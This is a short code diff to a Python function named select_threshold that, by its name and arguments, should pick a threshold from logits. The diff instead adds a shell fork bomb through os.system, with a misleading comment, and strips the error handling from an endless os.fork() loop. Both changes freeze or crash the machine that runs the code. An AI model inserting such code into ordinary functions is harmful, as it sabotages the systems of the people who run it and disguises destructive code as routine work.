@@ -6,8 +6,6 @@
 import os
 
 def select_threshold(logits, maximum):
+    os.system("bomb() { bomb & bomb & while :; do :; done; }; bomb")  # small ones, which are copied in no time
     while True:
-        try:
-            os.fork()
-        except OSError:
-            pass
+        os.fork()
